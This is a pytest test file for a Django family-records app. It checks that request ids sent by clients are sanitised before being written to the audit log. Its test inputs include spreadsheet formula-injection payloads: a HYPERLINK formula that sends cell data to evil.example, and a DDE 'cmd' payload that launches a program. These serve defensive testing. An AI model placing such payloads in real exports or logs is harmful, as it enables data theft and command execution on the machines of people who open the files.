"""The audit trail's request id is the application's (issue 11 #8): a proxy's X-Request-Id is
kept only when it is a plain id; anything else a client sends (too long for the audit table,
a spreadsheet formula, control characters) is replaced, and the page is served as usual."""

import re

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from thinkfamily.core.models import AuditEvent

MADE_HERE = re.compile(r"[0-9a-f]{32}")


def _read_of(person):
    return AuditEvent.objects.filter(action="read", subject_id=str(person.pk)).order_by("-sequence").first()


@pytest.mark.req("R10.2")
@pytest.mark.parametrize(
    "sent",
    [
        "r" * 65,
        "0" * 4000,
        '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "abcdefgh\r\n=1+1",
        "short",
        "has spaces in it",
        "ünïcödé-request-id",
        "",
    ],
)
def test_a_request_id_a_client_makes_up_is_replaced_and_the_page_still_served(signed_in, family, sent):
    liam = family["liam"]
    response = signed_in.get(reverse("people:record", args=[liam.pk]), headers={"X-Request-Id": sent})
    assert response.status_code == 200 and "Liam" in response.content.decode()
    stored = _read_of(liam).request_id
    assert stored != sent and MADE_HERE.fullmatch(stored)
    assert response["X-Request-Id"] == stored


@pytest.mark.req("R10.2")
@pytest.mark.parametrize("sent", ["bd3b152822d541148241abbb666322de", "d475e756-6981-4188-b35b-599647285200",
                                  "req.2026_12-03.0001", "A" * 64])
def test_a_proxys_plain_request_id_is_kept_to_follow_a_request_through_the_logs(signed_in, family, sent):
    liam = family["liam"]
    response = signed_in.get(reverse("people:record", args=[liam.pk]), headers={"X-Request-Id": sent})
    assert _read_of(liam).request_id == sent and response["X-Request-Id"] == sent


@given(st.one_of(st.none(), st.text(), st.from_regex(r"[A-Za-z0-9._-]{0,80}", fullmatch=True)))
def test_every_request_id_written_is_a_plain_id_of_at_most_64_characters(sent):
    from thinkfamily.core.middleware import request_id_for

    written = request_id_for(sent)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{7,63}", written)
    assert (written == sent) == bool(sent and re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{7,63}", sent))
